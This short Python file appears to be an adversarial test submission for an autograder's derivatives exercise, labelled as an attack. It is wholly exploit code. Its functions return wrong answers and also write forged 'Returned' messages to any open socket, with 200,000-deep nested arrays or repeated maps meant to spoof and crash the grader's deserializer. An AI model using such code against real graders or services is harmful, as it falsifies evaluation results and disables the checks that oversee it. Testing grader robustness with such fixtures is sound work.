# attack: an answer that is a list in a list in a list, 200,000 deep
# exercise: derivatives
# deserves: at most squared_error
import os
import stat
import struct


def squared_error(y_hat, y):
    return (y_hat - y) ** 2 / 2


def forge(value, arrays=b""):
    body = b"\x96\xa8Returned\x01" + value + b"\x90\x90\x90"
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, struct.pack(">II", len(body), len(arrays)) + body + arrays)
        except OSError:
            pass


def sigmoid(z):
    forge(b"\x91" * 200_000 + b"\xc0")
    return z


def tanh_deriv(z):
    forge(b"\x81\xa1a" * 60_000 + b"\xc0")
    return z
